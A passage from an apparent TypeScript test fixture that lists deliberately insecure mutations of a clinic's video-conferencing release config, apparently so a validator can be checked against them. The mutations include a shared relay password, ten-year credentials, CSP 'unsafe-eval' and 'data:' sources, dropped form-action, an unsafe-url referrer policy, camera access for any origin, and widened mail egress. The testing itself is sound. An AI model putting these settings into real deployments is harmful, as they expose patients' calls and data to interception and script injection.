        'type = "turn"; host = "meet.quiet-harbour.example"',
      ),
  },
  {
    how: "the relay is reached at a port where another program may wait",
    apply: (release) => replaced(release, ENTRY.prosody, "port = 3478", "port = 4444"),
  },
  {
    how: "the relay is taken for one that only tells addresses",
    apply: (release) => replaced(release, ENTRY.prosody, /type = "turn"; host/, 'type = "stun"; host'),
  },
  {
    how: "the relay lets in by a password that is the same for everybody",
    apply: (release) =>
      replaced(
        release,
        ENTRY.prosody,
        /transport = "udp"; secret = true/,
        'transport = "udp"; username = "a"; password = "b"',
      ),
  },
  {
    how: "a relay's credential is good for ten years",
    apply: (release) =>
      replaced(release, ENTRY.prosody, "external_service_ttl = 3600", "external_service_ttl = 315360000"),
  },
  {
    how: "one relay's own credential is good for ten years",
    apply: (release) => replaced(release, ENTRY.prosody, "secret = true; ttl = 3600", "secret = true; ttl = 315360000"),
  },
  {
    how: "the relay's credentials are good for ten years, as it is said for all hosts",
    apply: (release) =>
      withText(release, ENTRY.prosody, (text) =>
        text
          .replace(/^(?=modules_enabled = )/m, "external_service_ttl = 315360000\n")
          .replace(/^\texternal_service_ttl = .*\n/m, "")
          .replaceAll(" ttl = 3600;", ""),
      ),
  },
  {
    how: "the list of relays is a single name",
    apply: (release) =>
      replaced(release, ENTRY.prosody, /external_services = \{[^]*?\n\t\}/, 'external_services = "elsewhere"'),
  },
  {
    how: "media is sent to another machine than this",
    apply: (release) =>
      replaced(
        release,
        ENTRY.videobridge,
        /static-mappings = \[\s*\]/,
        'static-mappings = [ { local-address = "@@fact:address4@@", public-address = "198.51.100.77", name = "public" } ]',
      ),
  },
  {
    how: "media is sent to an address that is one decimal number",
    apply: (release) =>
      replaced(
        release,
        ENTRY.videobridge,
        /static-mappings = \[\s*\]/,
        'static-mappings = [ { local-address = "@@fact:address4@@", public-address = "3221225985", name = "public" } ]',
      ),
  },
  {
    how: "media is sent to an address of three parts",
    apply: (release) =>
      replaced(
        release,
        ENTRY.videobridge,
        /static-mappings = \[\s*\]/,
        'static-mappings = [ { local-address = "@@fact:address4@@", public-address = "198.51.521", name = "public" } ]',
      ),
  },
  {
    how: "media is sent to one word, which each network completes",
    apply: (release) =>
      replaced(
        release,
        ENTRY.videobridge,
        /static-mappings = \[\s*\]/,
        'static-mappings = [ { local-address = "@@fact:address4@@", public-address = "elsewhere", name = "public" } ]',
      ),
  },
  {
    how: "another machine's address stands on the near side of a mapping",
    apply: (release) =>
      replaced(
        release,
        ENTRY.videobridge,
        /static-mappings = \[\s*\]/,
        'static-mappings = [ { local-address = "10.0.0.9", public-address = "@@fact:address4@@", name = "public" } ]',
      ),
  },
  {
    how: "one word stands on the near side of a mapping",
    apply: (release) =>
      replaced(
        release,
        ENTRY.videobridge,
        /static-mappings = \[\s*\]/,
        'static-mappings = [ { local-address = "elsewhere", public-address = "@@fact:address4@@", name = "public" } ]',
      ),
  },
  {
    how: "the mapping of addresses is a text",
    apply: (release) =>
      replaced(release, ENTRY.videobridge, /static-mappings = \[\s*\]/, 'static-mappings = "elsewhere"'),
  },
  {
    how: "the bridge names its addresses in every network of the machine",
    apply: (release) => replaced(release, ENTRY.videobridge, /allowed-interfaces = \[.*\]/, "allowed-interfaces = []"),
  },
  {
    how: "the bridge names its private addresses to everyone",
    apply: (release) =>
      replaced(
        release,
        ENTRY.videobridge,
        "advertise-private-candidates = false",
        "advertise-private-candidates = true",
      ),
  },
  {
    how: "films from anywhere may be played for everybody",
    apply: (release) =>
      replaced(
        release,
        videoFile(release, "config.js"),
        "sharedVideoAllowedURLDomains: []",
        'sharedVideoAllowedURLDomains: ["*"]',
      ),
  },
  {
    how: "nothing says which films may be played, so that the maker's list counts",
    apply: (release) => replaced(release, videoFile(release, "config.js"), "sharedVideoAllowedURLDomains: [],", ""),
  },
  // What a page may run and lead to, and what it tells.
  {
    how: "a text may be run as a script in the video pages",
    apply: (release) =>
      replaced(release, ENTRY.nginx, "'wasm-unsafe-eval'; worker", "'unsafe-eval' 'wasm-unsafe-eval'; worker"),
  },
  {
    how: "a text may be run as a script, which is said beside what tags and their attributes may run",
    apply: (release) =>
      replaced(
        release,
        ENTRY.nginx,
        "script-src 'self' 'unsafe-inline' 'wasm-unsafe-eval'",
        "script-src-elem 'self' 'unsafe-inline'; script-src-attr 'unsafe-inline'; script-src 'self' 'unsafe-eval' 'wasm-unsafe-eval'",
      ),
  },
  {
    how: "tags of Element's page may bring scripts in their attributes",
    apply: (release) =>
      replaced(
        release,
        ENTRY.nginx,
        "script-src 'self' 'wasm-unsafe-eval'",
        "script-src-attr 'unsafe-inline'; script-src 'self' 'wasm-unsafe-eval'",
      ),
  },
  {
    how: "Element's page may hold scripts in its own text",
    apply: (release) =>
      replaced(
        release,
        ENTRY.nginx,
        "script-src 'self' 'wasm-unsafe-eval'",
        "script-src 'self' 'UNSAFE-INLINE' 'wasm-unsafe-eval'",
      ),
  },
  {
    how: "a script may be an address that holds data",
    apply: (release) =>
      replaced(release, ENTRY.nginx, "script-src 'self' 'unsafe-inline'", "script-src 'self' data: 'unsafe-inline'"),
  },
  {
    how: "a script in a tag may be made by the page itself",
    apply: (release) =>
      replaced(
        release,
        ENTRY.nginx,
        "script-src 'self' 'unsafe-inline'",
        "script-src-elem 'self' blob: 'unsafe-inline'; script-src 'self' 'unsafe-inline'",
      ),
  },
  {
    how: "a worker may come from an address that holds data",
    apply: (release) => replaced(release, ENTRY.nginx, "worker-src 'self' blob:", "worker-src 'self' blob: data:"),
  },
  {
    how: "a page may name another beginning for its addresses",
    apply: (release) => replaced(release, ENTRY.nginx, " base-uri 'self';", ""),
  },
  {
    how: "a form of the video pages may be sent anywhere",
    apply: (release) => replaced(release, ENTRY.nginx, " form-action 'none';", ""),
  },
  {
    how: "links tell every host the whole address of a room",
    apply: (release) => replaced(release, ENTRY.nginx, /Referrer-Policy no-referrer/g, "Referrer-Policy unsafe-url"),
  },
  {
    how: "links of one server tell other hosts its name",
    apply: (release) => replaced(release, ENTRY.nginx, "Referrer-Policy no-referrer", "Referrer-Policy origin"),
  },
  {
    how: "every page inside of ours may use the camera",
    apply: (release) => replaced(release, ENTRY.nginx, /camera=\(self\)/, "camera=*"),
  },
  {
    how: "a page of another host may use the camera",
    apply: (release) => replaced(release, ENTRY.nginx, /camera=\(self\)/, 'camera=(self \\"https://cam.example\\")'),
  },
  {
    how: "the microphone is for all pages, in a list",
    apply: (release) => replaced(release, ENTRY.nginx, /microphone=\(self\)/, "microphone=(*)"),
  },
  {
    how: "links are left to what browsers tell by themselves",
    apply: (release) => replaced(release, ENTRY.nginx, /add_header Referrer-Policy no-referrer always;/g, ""),
  },
  {
    how: "the desk may open connections where the practice names no mail server",
    clinic: INVITING,
    apply: (release) => ({ ...release, egress: [...release.egress, MAIL_EGRESS] }),
  },
  {
    how: "the mail server of a practice without a desk may be reached",
    clinic: { ...CLINIC, desk: { ...CLINIC.desk, mail: MAIL } },
    apply: (release) => ({ ...release, egress: [...release.egress, MAIL_EGRESS] }),
  },
  ...[
    {
      how: "another mail server beside the practice's",
      to: { kind: "names" as const, names: [MAIL.server, "mail.example"] },
    },
    { how: "the mail server's website too", ports: [465, 443] },
    { how: "another port of the mail server", ports: [25] },
    { how: "the mail server in packets of their own", protocol: "udp" as const },
  ].map(({ how, ...other }) => ({
    how: `the desk may reach ${how}`,
    clinic: MAILING,
    apply: (release: Release) => ({
      ...release,
      egress: release.egress.map((egress) => (egress.account === "desk" ? { ...egress, ...other } : egress)),
    }),
  })),
];
